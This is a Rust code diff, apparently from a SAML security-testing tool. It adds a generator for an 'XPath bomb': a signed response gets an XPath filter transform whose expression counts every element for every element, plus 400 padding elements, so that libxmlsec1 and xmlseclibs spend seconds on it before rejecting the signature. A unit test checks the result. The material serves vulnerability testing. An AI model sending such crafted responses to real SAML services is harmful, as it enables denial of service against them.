@@ -10,7 +10,7 @@ use saml_protocol::{ASSERTION_NS, DSIG_NS, ENVELOPED, EXC_C14N};
 
 use crate::bytes::{self, Doc, Node};
 use crate::check::{Burden, BURDEN_FLOOR, QUICK_FLOOR, SAME_SIZE_RATIO, SAME_WORK_RATIO};
-use crate::family::dsig::{empty_digest, XSLT_TRANSFORM};
+use crate::family::dsig::{empty_digest, XPATH_TRANSFORM, XSLT_TRANSFORM};
 use crate::forge::{Forge, Skip};
 
 /// The line feeds the deflate bomb puts before the response: 32 MiB, three times the largest
@@ -342,6 +342,73 @@ pub fn xslt_bomb(f: &Forge) -> Result<Burden, Skip> {
         shown: burden,
         yardstick: encoded(with_depth(&zero)),
         yardstick_is: "the same-size response with the stylesheet called zero levels deep",
+        ratio: SAME_SIZE_RATIO,
+        floor: BURDEN_FLOOR,
+        ignorable: false,
+    })
+}
+
+/// How many empty elements the XPath bomb puts in the Assertion: the filter runs its
+/// expression once per node of the document, and the expression counts every element once
+/// per element, so the cost is cubic: 2.6 s in libxmlsec1 1.2.37 here (its yardstick 2 ms).
+pub const XPATH_BULK: usize = 400;
+
+/// The XPath bomb's expression (escaped for XML): every element counted for every element.
+const XPATH_COUNT: &str = "count(//*[count(//*) &gt; 0]) &gt; 0";
+
+/// An XPath filter transform right after each signature's enveloped-signature transform,
+/// whose expression counts every element of the document for each element, and
+/// [`XPATH_BULK`] empty elements in the Assertion's first claim value: evaluated once per
+/// node, that is cubic in the document's size, about 3 KB of it. The
+/// signatures no longer verify, but libxmlsec1 (over the whole document) and xmlseclibs 3.x
+/// (over the Assertion) run a Reference's transforms before they check the SignatureValue
+/// (simplesamlphp/saml2 GHSA-5cjr-mxj5-wmrx). The yardstick is the same document with the
+/// expression `1=1`, padded to the same length.
+pub fn xpath_bomb(f: &Forge) -> Result<Burden, Skip> {
+    let doc = Doc::parse(f.seed)?;
+    let signed = signed_transforms(&doc)?;
+    let assertion = doc.assertion()?;
+    let value = assertion
+        .descendants()
+        .find(|n| n.has_tag_name((ASSERTION_NS, "AttributeValue")))
+        .ok_or_else(|| {
+            Skip::NotApplicable("the Assertion has no claim value to hold the bulk".into())
+        })?;
+    let bulk = "<a/>".repeat(XPATH_BULK);
+    let with_expression = |expression: &str| {
+        let mut edits: bytes::Edits = signed
+            .iter()
+            .filter_map(|transforms| {
+                let ds = ds_prefix(&doc, *transforms);
+                transforms
+                    .children()
+                    .find(|t| t.attribute("Algorithm") == Some(ENVELOPED))
+                    .map(|enveloped| {
+                        bytes::insert(
+                            enveloped.range().end,
+                            format!("<{ds}Transform Algorithm=\"{XPATH_TRANSFORM}\"><{ds}XPath>{expression}</{ds}XPath></{ds}Transform>"),
+                        )
+                    })
+            })
+            .collect();
+        edits.push(bytes::insert(
+            bytes::before_end_tag(doc.src, value),
+            bulk.clone(),
+        ));
+        bytes::splice(doc.src, edits)
+    };
+    let burden = with_expression(XPATH_COUNT);
+    if !burden.contains(XPATH_TRANSFORM) {
+        return Err(Skip::NotApplicable(
+            "no signature has an enveloped-signature transform to follow".into(),
+        ));
+    }
+    let cheap = format!("{:<width$}", "1=1", width = XPATH_COUNT.len());
+    Ok(Burden {
+        encoded: encoded(&burden),
+        shown: burden.replace(&bulk, &format!("<a/>… ({XPATH_BULK} of them)")),
+        yardstick: encoded(with_expression(&cheap)),
+        yardstick_is: "the same response with the XPath expression 1=1",
         ratio: SAME_SIZE_RATIO,
         floor: BURDEN_FLOOR,
         ignorable: false,
@@ -746,6 +813,36 @@ mod tests {
         assert_eq!(broken.len(), xml.len());
         assert_eq!(broken.matches("&#13;").count(), 3);
         assert_ne!(broken, xml);
+    }
+
+    #[test]
+    fn the_xpath_bomb_filters_after_the_enveloped_transform_and_its_yardstick_is_cheap() {
+        let bomb = xpath_bomb(&Forge::bare(SIGNED)).unwrap();
+        assert_eq!(bomb.yardstick.len(), bomb.encoded.len());
+        let filter = |encoded: &str| {
+            let xml = decoded(encoded);
+            let doc = roxmltree::Document::parse(&xml).unwrap();
+            let transforms: Vec<_> = doc
+                .descendants()
+                .filter(|n| n.has_tag_name((DSIG_NS, "Transform")))
+                .collect();
+            let algorithms: Vec<_> = transforms
+                .iter()
+                .map(|n| n.attribute("Algorithm").unwrap_or_default())
+                .collect();
+            assert_eq!(algorithms, [ENVELOPED, XPATH_TRANSFORM, EXC_C14N]);
+            let bulk = doc.descendants().filter(|n| n.has_tag_name("a")).count();
+            assert_eq!(bulk, XPATH_BULK);
+            transforms[1]
+                .children()
+                .find(|n| n.is_element())
+                .and_then(|x| x.text())
+                .unwrap()
+                .trim()
+                .to_owned()
+        };
+        assert_eq!(filter(&bomb.encoded), "count(//*[count(//*) > 0]) > 0");
+        assert_eq!(filter(&bomb.yardstick), "1=1");
     }
 
     #[test]
